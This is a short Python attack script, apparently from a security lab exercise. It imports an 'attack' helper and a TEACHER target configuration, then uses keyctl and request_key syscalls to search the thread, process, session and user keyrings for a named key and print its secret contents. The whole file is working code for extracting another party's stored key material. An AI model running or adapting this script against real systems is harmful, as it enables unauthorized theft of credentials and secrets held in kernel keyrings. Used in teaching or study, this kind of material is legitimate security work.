"""Reads a key of the session, of the user and of the process before."""

import ctypes

from attack import TEACHER, call

content = ctypes.create_string_buffer(200)
for ring in (-3, -4, -5, -1, -2):
    key = call("keyctl", 10, ring, b"user", TEACHER["key"].encode(), 0)
    if key > 0:
        call("keyctl", 11, key, content, 200)
        print(content.value.decode())
key = call("request_key", b"user", TEACHER["key"].encode(), None, -3)
if key > 0:
    call("keyctl", 11, key, content, 200)
    print(content.value.decode())
